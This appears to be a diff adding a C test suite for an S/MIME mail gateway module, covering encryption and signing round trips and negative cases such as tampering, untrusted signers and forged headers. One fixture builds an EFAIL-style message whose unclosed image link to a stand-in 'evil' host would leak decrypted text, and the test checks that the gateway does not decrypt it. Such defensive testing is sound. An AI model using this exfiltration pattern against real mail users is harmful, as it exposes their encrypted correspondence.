@@ -1,0 +1,728 @@
+/*
+ * S/MIME round trips and negative cases on a throwaway PKI; every output
+ * is also checked with the openssl command line (and gpgsm where Debian
+ * 12's gpgsm supports the algorithm: CBC + RSA PKCS#1 v1.5).
+ */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <openssl/bio.h>
+#include <openssl/cms.h>
+#include <openssl/evp.h>
+
+#include "infohdr.h"
+#include "smime.h"
+#include "testutil.h"
+#include "tu_smime.h"
+
+static const char MSG[] =
+    "From: Alice <alice@example.org>\r\n"
+    "To: Bob <bob@example.org>\r\n"
+    "Subject: quarterly numbers\r\n"
+    "X-Postern-Info-SMIME-Signed: True\r\n"
+    "X-CipherMail-Info-Signer-Verified-0-0: True\r\n"
+    "MIME-Version: 1.0\r\n"
+    "Content-Type: text/plain; charset=us-ascii\r\n"
+    "Content-Transfer-Encoding: 7bit\r\n"
+    "\r\n"
+    "Hello Bob,\r\n"
+    "this is the secret text.\r\n"
+    "-- \r\n"
+    "Alice\r\n";
+
+#define SECRET "this is the secret text."
+
+static const char *const cipher_names[] = {
+	"AES-128-CBC", "AES-192-CBC", "AES-256-CBC", "AES-128-GCM",
+	"AES-192-GCM", "AES-256-GCM", "3DES", "CAMELLIA-128-CBC",
+	"CAMELLIA-256-CBC", "RC2", "CAST5", "SEED",
+};
+static const char *const cipher_hdr[] = {
+	"AES128, Key size: 128", "AES192, Key size: 192",
+	"AES256, Key size: 256", "AES128-GCM, Key size: 128",
+	"AES192-GCM, Key size: 192", "AES256-GCM, Key size: 256",
+	"3DES, Key size: 192", "CAMELLIA128, Key size: 128",
+	"CAMELLIA256, Key size: 256", "RC2, Key size: 128",
+	"CAST5, Key size: 128", "SEED, Key size: 128",
+};
+#define NCIPHERS 12
+#define FIRST_LEGACY 9
+
+/* scheme 5 is "EC recipient" */
+static const char *const scheme_names[] = {
+	"rsaes-pkcs1-v1_5", "rsaes-oaep-sha1", "rsaes-oaep-sha256",
+	"rsaes-oaep-sha384", "rsaes-oaep-sha512", "ecdh",
+};
+static const char *const scheme_oid[] = {
+	"/1.2.840.113549.1.1.1", "/1.2.840.113549.1.1.7",
+	"/1.2.840.113549.1.1.7", "/1.2.840.113549.1.1.7",
+	"/1.2.840.113549.1.1.7", "/1.3.132.1.11.1",
+};
+#define NSCHEMES 6
+
+static void
+keys_for(struct smime_keys *k, struct smime_simple_keys *sk,
+    STACK_OF(X509) **certs, EVP_PKEY **keys, int trust)
+{
+	struct tu_pki *p = tu_pki();
+
+	*certs = sk_X509_new_null();
+	sk_X509_push(*certs, p->bob);
+	sk_X509_push(*certs, p->carol);
+	keys[0] = p->bob_key;
+	keys[1] = p->carol_key;
+	sk->store = trust ? p->store : NULL;
+	sk->certs = *certs;
+	sk->keys = keys;
+	sk->nkeys = 2;
+	smime_simple_keys_init(k, sk);
+}
+
+static void
+opts_for(struct smime_opts *o, int cipher, int scheme)
+{
+	const char *error;
+
+	smime_opts_init(o);
+	ck_assert_msg(smime_opts_set(o, "smime.encryption-algorithm",
+	    cipher_names[cipher], &error) == 0, "%s", error);
+	if (scheme < 5)
+		ck_assert_msg(smime_opts_set(o, "smime.encryption-scheme",
+		    scheme_names[scheme], &error) == 0, "%s", error);
+	if (cipher >= FIRST_LEGACY) {
+		o->legacy = 1;
+		ck_assert_msg(smime_legacy_enable(&error) == 0, "%s", error);
+	}
+}
+
+/* Every cipher x scheme: ours encrypts, openssl cms and we decrypt. */
+START_TEST(encrypt_roundtrip)
+{
+	struct tu_pki *p = tu_pki();
+	int cipher = _i / NSCHEMES, scheme = _i % NSCHEMES;
+	const char *rname = scheme == 5 ? "carol" : "bob";
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *rcpt, *kc;
+	EVP_PKEY *keys[2];
+	struct buf out;
+	const char *error, *v;
+	char *dir, *f, *plain, want[300];
+	size_t plen;
+
+	ck_assert_ptr_nonnull(p);
+	opts_for(&o, cipher, scheme);
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, scheme == 5 ? p->carol : p->bob);
+	buf_init(&out, 0);
+	ck_assert_msg(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error) == 0, "%s/%s: %s", cipher_names[cipher],
+	    scheme_names[scheme], error);
+	ck_assert_ptr_null(strstr(out.data, SECRET));
+	ck_assert_ptr_nonnull(strstr(out.data, "Subject: quarterly numbers"));
+
+	/* openssl cms decrypts it */
+	dir = tu_tmpdir();
+	f = tu_put(dir, "m.eml", out.data, out.len);
+	ck_assert_int_eq(tu_sh("openssl cms -decrypt %s -in %s/m.eml "
+	    "-recip %s/%s.crt -inkey %s/%s.key -out %s/plain 2>%s/err",
+	    cipher >= FIRST_LEGACY ? "-provider legacy -provider default" : "",
+	    dir, p->dir, rname, p->dir, rname, dir, dir), 0);
+	free(f);
+	f = tu_path(dir, "plain");
+	plain = tu_read_file(f, &plen);
+	ck_assert_ptr_nonnull(plain);
+	ck_assert_msg(strstr(plain, SECRET) != NULL &&
+	    strstr(plain, "Content-Type: text/plain") != NULL,
+	    "openssl cms plaintext: got %s", plain);
+	free(plain);
+	free(f);
+
+	/* and so do we, with the info headers */
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_msg(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error) == 0, "%s", error);
+	ck_assert_msg(r.flags & SMIME_R_DECRYPTED, "flags %#x", r.flags);
+	ck_assert(r.changed);
+	ck_assert_ptr_nonnull(strstr(r.message, SECRET));
+	ck_assert_ptr_nonnull(strstr(r.message, "Subject: quarterly numbers"));
+	v = infohdr_get(r.info, "Encryption-Algorithm-0");
+	ck_assert_msg(v != NULL && strcmp(v, cipher_hdr[cipher]) == 0,
+	    "got %s, want %s", v, cipher_hdr[cipher]);
+	v = infohdr_get(r.info, "Encryption-Recipient-0-0");
+	snprintf(want, sizeof(want), "CN=Postern Test CA, O=Postern Test/%s//",
+	    scheme == 5 ? "1002" : "1001");
+	ck_assert_msg(v != NULL && strncmp(v, want, strlen(want)) == 0 &&
+	    strstr(v, scheme_oid[scheme]) != NULL, "got %s, want %s...%s", v,
+	    want, scheme_oid[scheme]);
+	ck_assert_str_eq(infohdr_get(r.info, "SMIME-Encrypted"), "True");
+	smime_result_release(&r);
+	sk_X509_free(kc);
+	sk_X509_free(rcpt);
+	buf_release(&out);
+	tu_tmpdir_free(&dir);
+}
+END_TEST
+
+/* gpgsm (GnuPG 2.2) reads CBC + PKCS#1 v1.5: our defaults. */
+START_TEST(encrypt_gpgsm)
+{
+	static const char *const ciphers[] = { "AES-128-CBC", "AES-256-CBC",
+	    "3DES" };
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	STACK_OF(X509) *rcpt;
+	struct buf out;
+	const char *error;
+	char *dir, *plain, *f;
+	size_t plen;
+	int rc;
+
+	ck_assert_ptr_nonnull(p);
+	if (!tu_have_gpgsm())
+		return;
+	smime_opts_init(&o);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.encryption-algorithm",
+	    ciphers[_i], &error), 0);
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, p->bob);
+	buf_init(&out, 0);
+	ck_assert_msg(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error) == 0, "%s", error);
+	dir = tu_tmpdir();
+	f = tu_put(dir, "m.eml", out.data, out.len);
+	free(f);
+	/* body only: gpgsm reads the base64 CMS */
+	rc = tu_sh("cd %s && mkdir -m 700 g && "
+	    "openssl pkcs12 -export -inkey %s/bob.key -in %s/bob.crt "
+	    "-certfile %s/ca.crt -out bob.p12 -passout pass:test "
+	    "-keypbe PBE-SHA1-3DES -certpbe PBE-SHA1-3DES -macalg sha1 && "
+	    "sed '1,/^\\r*$/d' m.eml | tr -d '\\r' | openssl base64 -d "
+	    "> body.der && export GNUPGHOME=%s/g && "
+	    "echo test | gpgsm --batch --pinentry-mode loopback "
+	    "--passphrase-fd 0 --import bob.p12 >/dev/null 2>&1; "
+	    "echo test | gpgsm --batch --pinentry-mode loopback "
+	    "--passphrase-fd 0 --disable-crl-checks --decrypt "
+	    "body.der > plain 2>err; r=$?; gpgconf --kill gpg-agent; exit $r",
+	    dir, p->dir, p->dir, p->dir, dir);
+	ck_assert_msg(rc == 0, "gpgsm decrypt %s: exit %d", ciphers[_i], rc);
+	f = tu_path(dir, "plain");
+	plain = tu_read_file(f, &plen);
+	ck_assert_ptr_nonnull(plain);
+	ck_assert_msg(strstr(plain, SECRET) != NULL, "gpgsm got %s", plain);
+	free(plain);
+	free(f);
+	sk_X509_free(rcpt);
+	buf_release(&out);
+	tu_tmpdir_free(&dir);
+}
+END_TEST
+
+static const char *const digest_names[] = { "sha-256", "sha-384",
+	"sha-512", "sha-1" };
+
+/* digest x detached/opaque x PKCS#1/PSS: openssl cms -verify and we. */
+START_TEST(sign_roundtrip)
+{
+	struct tu_pki *p = tu_pki();
+	int digest = _i / 4, opaque = (_i / 2) % 2, pss = _i % 2;
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *kc;
+	EVP_PKEY *keys[2];
+	struct buf out;
+	const char *error, *v;
+	char *dir, *f, *plain;
+	size_t plen;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.signing-digest",
+	    digest_names[digest], &error), 0);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.signing-mode",
+	    opaque ? "opaque" : "detached", &error), 0);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.signing-pss",
+	    pss ? "true" : "false", &error), 0);
+	buf_init(&out, 0);
+	ck_assert_msg(smime_sign(MSG, strlen(MSG), p->alice, p->alice_key,
+	    NULL, &o, &out, &error) == 0, "%s", error);
+	if (!opaque) {
+		ck_assert_ptr_nonnull(strstr(out.data, SECRET));
+		ck_assert_ptr_nonnull(strstr(out.data, digest_names[digest]));
+	}
+	dir = tu_tmpdir();
+	f = tu_put(dir, "m.eml", out.data, out.len);
+	free(f);
+	ck_assert_msg(tu_sh("openssl cms -verify -in %s/m.eml -CAfile "
+	    "%s/ca.crt -purpose smimesign -out %s/plain 2>%s/err", dir,
+	    p->dir, dir, dir) == 0, "openssl cms -verify failed (%s %s %s)",
+	    digest_names[digest], opaque ? "opaque" : "detached",
+	    pss ? "pss" : "pkcs1");
+	f = tu_path(dir, "plain");
+	plain = tu_read_file(f, &plen);
+	ck_assert_ptr_nonnull(plain);
+	ck_assert_ptr_nonnull(strstr(plain, SECRET));
+	free(plain);
+	free(f);
+
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_msg(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error) == 0, "%s", error);
+	ck_assert_msg((r.flags & (SMIME_R_SIGNED | SMIME_R_SIGNED_VALID)) ==
+	    (SMIME_R_SIGNED | SMIME_R_SIGNED_VALID), "flags %#x", r.flags);
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Verified-0-0"), "True");
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Trusted-0-0"), "True");
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Email-0-0"),
+	    "alice@example.org");
+	v = infohdr_get(r.info, "Signer-ID-0-0");
+	ck_assert_msg(v != NULL && strcmp(v,
+	    "CN=Postern Test CA, O=Postern Test/1003/") == 0, "got %s", v);
+	ck_assert_ptr_null(infohdr_get(r.info, "Signer-Mismatch"));
+	ck_assert_int_eq(sk_X509_num(r.certs), 1);
+	ck_assert_int_eq(r.changed, 0);
+	smime_result_release(&r);
+	sk_X509_free(kc);
+	buf_release(&out);
+	tu_tmpdir_free(&dir);
+}
+END_TEST
+
+START_TEST(sign_gpgsm)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	struct buf out, der;
+	const char *error;
+	char *dir, *f;
+	int rc;
+
+	ck_assert_ptr_nonnull(p);
+	if (!tu_have_gpgsm())
+		return;
+	smime_opts_init(&o);
+	buf_init(&out, 0);
+	buf_init(&der, 0);
+	/* detached CMS over the exact bytes, verified by gpgsm */
+	ck_assert_msg(smime_cms_sign((const unsigned char *)MSG, strlen(MSG),
+	    p->alice, p->alice_key, NULL, &o, 1, &der, &error) == 0, "%s",
+	    error);
+	dir = tu_tmpdir();
+	free(tu_put(dir, "sig.der", der.data, der.len));
+	free(tu_put(dir, "data", MSG, strlen(MSG)));
+	rc = tu_sh("cd %s && mkdir -m 700 g && export GNUPGHOME=%s/g && "
+	    "gpgsm --batch --import %s/ca.crt >/dev/null 2>&1 && "
+	    "fpr=$(gpgsm --with-colons --fingerprint 'Postern Test CA' | "
+	    "awk -F: '/^fpr/ {print $10; exit}') && "
+	    "echo \"$fpr S relax\" > g/trustlist.txt && "
+	    "gpgsm --batch --disable-crl-checks --verify sig.der data "
+	    ">out 2>&1; r=$?; gpgconf --kill gpg-agent; exit $r", dir, dir,
+	    p->dir);
+	if (rc != 0) {
+		char *t = tu_path(dir, "out"), *txt;
+		size_t n;
+
+		txt = tu_read_file(t, &n);
+		ck_abort_msg("gpgsm --verify: exit %d: %s", rc,
+		    txt != NULL ? txt : "");
+	}
+	f = NULL;
+	free(f);
+	buf_release(&der);
+	buf_release(&out);
+	tu_tmpdir_free(&dir);
+}
+END_TEST
+
+/* Sign, then encrypt, in one pass: two layers, both reported. */
+START_TEST(sign_encrypt)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *rcpt, *kc;
+	EVP_PKEY *keys[2];
+	struct buf out;
+	const char *error;
+	char *dir;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, p->bob);
+	sk_X509_push(rcpt, p->carol);
+	buf_init(&out, 0);
+	ck_assert_msg(smime_sign_encrypt(MSG, strlen(MSG), p->alice,
+	    p->alice_key, NULL, rcpt, &o, &out, &error) == 0, "%s", error);
+	dir = tu_tmpdir();
+	free(tu_put(dir, "m.eml", out.data, out.len));
+	ck_assert_int_eq(tu_sh("cd %s && openssl cms -decrypt -in m.eml "
+	    "-recip %s/carol.crt -inkey %s/carol.key 2>err | "
+	    "openssl cms -verify -CAfile %s/ca.crt -purpose smimesign "
+	    "-out plain 2>err2 && grep -q '%s' plain", dir, p->dir, p->dir,
+	    p->dir, SECRET), 0);
+
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_msg(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error) == 0, "%s", error);
+	ck_assert_uint_eq(r.flags & (SMIME_R_DECRYPTED | SMIME_R_SIGNED |
+	    SMIME_R_SIGNED_VALID), SMIME_R_DECRYPTED | SMIME_R_SIGNED |
+	    SMIME_R_SIGNED_VALID);
+	ck_assert_int_eq(r.levels, 2);
+	ck_assert_str_eq(infohdr_get(r.info, "Encryption-Algorithm-0"),
+	    "AES128, Key size: 128");
+	ck_assert_ptr_nonnull(infohdr_get(r.info, "Encryption-Recipient-1-0"));
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Verified-0-1"), "True");
+	ck_assert_str_eq(infohdr_get(r.info, "SMIME-Signed"), "True");
+	/* the delivered message is the signed entity, still verifiable */
+	ck_assert(r.changed);
+	ck_assert_ptr_nonnull(strstr(r.message, "multipart/signed"));
+	free(tu_put(dir, "dec.eml", r.message, r.message_len));
+	ck_assert_int_eq(tu_sh("cd %s && openssl cms -verify -in dec.eml "
+	    "-CAfile %s/ca.crt -purpose smimesign -out /dev/null 2>err3", dir,
+	    p->dir), 0);
+	smime_result_release(&r);
+	sk_X509_free(kc);
+	sk_X509_free(rcpt);
+	buf_release(&out);
+	tu_tmpdir_free(&dir);
+}
+END_TEST
+
+/* Negative cases on signatures: tampered, untrusted, From mismatch. */
+START_TEST(sign_negative)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *kc;
+	EVP_PKEY *keys[2];
+	struct buf out;
+	const char *error;
+	char *hit;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	buf_init(&out, 0);
+	ck_assert_int_eq(smime_sign(MSG, strlen(MSG), p->alice, p->alice_key,
+	    NULL, &o, &out, &error), 0);
+
+	/* untrusted: no trust anchors */
+	keys_for(&k, &sk, &kc, keys, 0);
+	ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error), 0);
+	ck_assert_uint_eq(r.flags & (SMIME_R_SIGNED | SMIME_R_SIGNED_VALID),
+	    SMIME_R_SIGNED);
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Verified-0-0"), "True");
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Trusted-0-0"), "False");
+	ck_assert_ptr_nonnull(infohdr_get(r.info, "Signer-Trusted-Info-0-0"));
+	smime_result_release(&r);
+	sk_X509_free(kc);
+
+	/* From is someone else: reported, never hidden */
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o,
+	    "mallory@example.net", 0, &r, &error), 0);
+	ck_assert(r.flags & SMIME_R_SIGNER_MISMATCH);
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Mismatch"), "True");
+	smime_result_release(&r);
+
+	/* one byte of the signed text changed */
+	hit = strstr(out.data, "secret");
+	ck_assert_ptr_nonnull(hit);
+	hit[0] = 'S';
+	ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error), 0);
+	ck_assert_uint_eq(r.flags & (SMIME_R_SIGNED | SMIME_R_SIGNED_VALID),
+	    SMIME_R_SIGNED);
+	ck_assert_str_eq(infohdr_get(r.info, "Signer-Verified-0-0"), "False");
+	ck_assert_ptr_nonnull(strstr(infohdr_get(r.info,
+	    "Signer-Verification-Info-0-0"), "digest"));
+	smime_result_release(&r);
+	sk_X509_free(kc);
+	buf_release(&out);
+}
+END_TEST
+
+/* No key, tampered GCM, mixed content, 8-bit in a 7bit part. */
+START_TEST(decrypt_negative)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *rcpt, *kc;
+	EVP_PKEY *keys[2];
+	struct buf out, der, mixed;
+	const char *error;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, p->alice);	/* we hold no key for Alice */
+	buf_init(&out, 0);
+	ck_assert_int_eq(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error), 0);
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o, NULL, 0, &r,
+	    &error), 0);
+	ck_assert_uint_eq(r.flags, SMIME_R_ENCRYPTED | SMIME_R_KEY_NOT_FOUND);
+	ck_assert_int_eq(r.changed, 0);
+	ck_assert_str_eq(infohdr_get(r.info,
+	    "SMIME-Decryption-Key-Not-Found"), "True");
+	smime_result_release(&r);
+
+	/* GCM with one flipped byte in the tag: no plaintext */
+	sk_X509_set(rcpt, 0, p->bob);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.encryption-algorithm",
+	    "AES-256-GCM", &error), 0);
+	buf_init(&der, 0);
+	ck_assert_int_eq(smime_cms_encrypt((const unsigned char *)MSG,
+	    strlen(MSG), rcpt, &o, &der, &error), 0);
+	{
+		struct smime_decrypt_info di;
+		struct buf plain;
+
+		buf_init(&plain, 0);
+		ck_assert_int_eq(smime_cms_decrypt((unsigned char *)der.data,
+		    der.len, &k, &di, &plain, &error), 1);
+		smime_decrypt_info_release(&di);
+		buf_reset(&plain);
+		der.data[der.len - 3] ^= 0x01;	/* in the mac */
+		ck_assert_int_eq(smime_cms_decrypt((unsigned char *)der.data,
+		    der.len, &k, &di, &plain, &error), 0);
+		ck_assert_uint_eq(plain.len, 0);
+		ck_assert_int_eq(di.key_found, 1);
+		smime_decrypt_info_release(&di);
+		buf_release(&plain);
+	}
+	buf_release(&der);
+
+	/* ciphertext as the second part of multipart/mixed: not touched */
+	buf_reset(&out);
+	ck_assert_int_eq(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error), 0);
+	buf_init(&mixed, 0);
+	buf_puts(&mixed, "From: Mallory <alice@example.org>\r\n"
+	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
+	    "boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/html\r\n\r\n"
+	    "<img src=\"http://evil/?\r\n--b1\r\n");
+	buf_append(&mixed, strstr(out.data, "Content-Type: application"),
+	    out.len - (size_t)(strstr(out.data, "Content-Type: application") -
+	    out.data));
+	buf_puts(&mixed, "\r\n--b1--\r\n");
+	ck_assert_int_eq(smime_inbound(mixed.data, mixed.len, &k, &o, NULL, 0,
+	    &r, &error), 0);
+	ck_assert_uint_eq(r.flags, SMIME_R_MIXED);
+	ck_assert_int_eq(r.changed, 0);
+	ck_assert_str_eq(infohdr_get(r.info, "SMIME-Mixed-Content"), "True");
+	smime_result_release(&r);
+	buf_release(&mixed);
+
+	/* 8-bit bytes in a part declared 7bit */
+	{
+		static const char bad7[] = "From: a@example.org\r\n"
+		    "Content-Type: text/plain\r\n"
+		    "Content-Transfer-Encoding: 7bit\r\n\r\nGr\xc3\xbc\xc3\x9f"
+		    "e\r\n";
+		buf_reset(&out);
+		ck_assert_int_eq(smime_opts_set(&o,
+		    "smime.encryption-algorithm", "AES-128-CBC", &error), 0);
+		ck_assert_int_eq(smime_encrypt(bad7, strlen(bad7), rcpt, &o,
+		    &out, &error), 0);
+		ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o,
+		    NULL, 0, &r, &error), 0);
+		ck_assert_uint_eq(r.flags & (SMIME_R_ILLEGAL_7BIT |
+		    SMIME_R_DECRYPTED), SMIME_R_ILLEGAL_7BIT |
+		    SMIME_R_DECRYPTED);
+		ck_assert_str_eq(infohdr_get(r.info,
+		    "SMIME-Illegal-Chars-Found"), "True");
+		smime_result_release(&r);
+		ck_assert_int_eq(smime_opts_set(&o,
+		    "smime.abort-on-illegal-7bit", "true", &error), 0);
+		ck_assert_int_eq(smime_inbound(out.data, out.len, &k, &o,
+		    NULL, 0, &r, &error), 0);
+		ck_assert_uint_eq(r.flags & (SMIME_R_ILLEGAL_7BIT |
+		    SMIME_R_DECRYPTED), SMIME_R_ILLEGAL_7BIT);
+		ck_assert_int_eq(r.changed, 0);
+		smime_result_release(&r);
+	}
+	sk_X509_free(kc);
+	sk_X509_free(rcpt);
+	buf_release(&out);
+}
+END_TEST
+
+/* A SignedData with zero SignerInfos is never "signed valid". */
+START_TEST(zero_signers)
+{
+	/* SignedData { 1, {}, { id-data, "hello" }, {} } by hand */
+	static const unsigned char der[] = {
+		0x30, 0x2c, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d,
+		0x01, 0x07, 0x02, 0xa0, 0x1f, 0x30, 0x1d, 0x02, 0x01, 0x01,
+		0x31, 0x00, 0x30, 0x14, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
+		0xf7, 0x0d, 0x01, 0x07, 0x01, 0xa0, 0x07, 0x04, 0x05, 'h',
+		'e', 'l', 'l', 'o', 0x31, 0x00,
+	};
+	struct smime_verify_info vi;
+	struct smime_result r;
+	struct buf content, msg;
+	const char *error;
+
+	buf_init(&content, 0);
+	ck_assert_int_eq(smime_cms_type(der, sizeof(der)), SMIME_CMS_SIGNED);
+	ck_assert_msg(smime_cms_verify(der, sizeof(der), NULL, 0, NULL, 0,
+	    NULL, &vi, &content, &error) == 1, "%s", error);
+	ck_assert_uint_eq(vi.nsigners, 0);
+	ck_assert_str_eq(content.data, "hello");
+	smime_verify_info_release(&vi);
+	buf_release(&content);
+
+	/* as a message: signed layer, but never valid */
+	buf_init(&msg, 0);
+	buf_puts(&msg, "From: a@example.org\r\nContent-Type: application/"
+	    "pkcs7-mime; smime-type=signed-data\r\n"
+	    "Content-Transfer-Encoding: base64\r\n\r\n"
+	    "MCwGCSqGSIb3DQEHAqAfMB0CAQExADAUBgkqhkiG9w0BBwGgBwQFaGVsbG8xAA==\r\n");
+	ck_assert_int_eq(smime_inbound(msg.data, msg.len, NULL, NULL, NULL, 0,
+	    &r, &error), 0);
+	ck_assert_uint_eq(r.flags & SMIME_R_SIGNED_VALID, 0);
+	ck_assert_str_eq(infohdr_get(r.info, "SMIME-Signed"), "False");
+	smime_result_release(&r);
+	buf_release(&msg);
+}
+END_TEST
+
+/* smime.max-size: exact limit passes, limit + 1 does not. */
+START_TEST(max_size)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	STACK_OF(X509) *rcpt;
+	struct smime_result r;
+	struct buf out, big;
+	const char *error;
+	char lim[32];
+	int i;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	buf_init(&big, 0);
+	buf_puts(&big, MSG);
+	for (i = 0; i < 40; i++)
+		buf_puts(&big, "padding padding padding padding padding\r\n");
+#define MSG big.data
+	snprintf(lim, sizeof(lim), "%zu", strlen(MSG));
+	ck_assert_int_eq(smime_opts_set(&o, "smime.max-size", lim, &error), 0);
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, p->bob);
+	buf_init(&out, 0);
+	ck_assert_int_eq(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error), 0);
+	snprintf(lim, sizeof(lim), "%zu", strlen(MSG) - 1);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.max-size", lim, &error), 0);
+	ck_assert_int_eq(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error), -1);
+	ck_assert_ptr_nonnull(strstr(error, "too large"));
+	ck_assert_int_eq(smime_inbound(MSG, strlen(MSG), NULL, &o, NULL, 0, &r,
+	    &error), 0);
+	ck_assert_int_eq(r.changed, 0);
+	ck_assert_ptr_nonnull(infohdr_get(r.info, "SMIME-Skipped"));
+	smime_result_release(&r);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.max-size", "10", &error),
+	    -1);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.nope", "1", &error), -1);
+	ck_assert_int_eq(smime_opts_set(&o, "smime.encryption-scheme",
+	    "rsaes-oaep-md5", &error), -1);
+#undef MSG
+	sk_X509_free(rcpt);
+	buf_release(&out);
+	buf_release(&big);
+}
+END_TEST
+
+/* Forged incoming info headers go, ours come in, LF mail stays LF. */
+START_TEST(apply_strips_forged)
+{
+	struct tu_pki *p = tu_pki();
+	struct smime_opts o;
+	struct smime_keys k;
+	struct smime_simple_keys sk;
+	struct smime_result r;
+	STACK_OF(X509) *rcpt, *kc;
+	EVP_PKEY *keys[2];
+	struct buf out, lf, fin;
+	const char *error;
+	size_t i;
+
+	ck_assert_ptr_nonnull(p);
+	smime_opts_init(&o);
+	o.legacy_prefixes = "X-CipherMail-Info X-Djigzo-Info";
+	rcpt = sk_X509_new_null();
+	sk_X509_push(rcpt, p->bob);
+	buf_init(&out, 0);
+	buf_init(&lf, 0);
+	buf_init(&fin, 0);
+	ck_assert_int_eq(smime_encrypt(MSG, strlen(MSG), rcpt, &o, &out,
+	    &error), 0);
+	for (i = 0; i < out.len; i++)
+		if (out.data[i] != '\r')
+			buf_putc(&lf, out.data[i]);
+	keys_for(&k, &sk, &kc, keys, 1);
+	ck_assert_int_eq(smime_inbound(lf.data, lf.len, &k, &o, NULL, 0, &r,
+	    &error), 0);
+	ck_assert(r.flags & SMIME_R_DECRYPTED);
+	ck_assert_int_eq(smime_inbound_apply(lf.data, lf.len, &r, &o, &fin,
+	    &error), 0);
+	ck_assert_ptr_null(strchr(fin.data, '\r'));
+	ck_assert_ptr_null(strstr(fin.data, "X-CipherMail-Info"));
+	ck_assert_ptr_null(strstr(fin.data, "X-Postern-Info-SMIME-Signed"));
+	ck_assert_ptr_nonnull(strstr(fin.data,
+	    "X-Postern-Info-SMIME-Encrypted: True\n"));
+	ck_assert_ptr_nonnull(strstr(fin.data, "\n\nHello Bob,\nthis is"));
+	smime_result_release(&r);
+	sk_X509_free(kc);
+	sk_X509_free(rcpt);
+	buf_release(&out);
+	buf_release(&lf);
+	buf_release(&fin);
+}
+END_TEST
+
+Suite *
+smime_suite(void)
+{
+	Suite *s = suite_create("smime");
+	TCase *tc;
+
+	tc = tcase_create("roundtrip");
+	tcase_add_unchecked_fixture(tc, tu_pki_setup, tu_pki_teardown);
+	tcase_set_timeout(tc, 600);
+	tcase_add_loop_test(tc, encrypt_roundtrip, 0, NCIPHERS * NSCHEMES);
+	tcase_add_loop_test(tc, encrypt_gpgsm, 0, 3);
+	tcase_add_loop_test(tc, sign_roundtrip, 0, 16);
+	tcase_add_test(tc, sign_gpgsm);
+	tcase_add_test(tc, sign_encrypt);
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("negative");
+	tcase_add_unchecked_fixture(tc, tu_pki_setup, tu_pki_teardown);
+	tcase_set_timeout(tc, 120);
+	tcase_add_test(tc, sign_negative);
+	tcase_add_test(tc, decrypt_negative);
+	tcase_add_test(tc, zero_signers);
+	tcase_add_test(tc, max_size);
+	tcase_add_test(tc, apply_strips_forged);
+	suite_add_tcase(s, tc);
+	return s;
+}
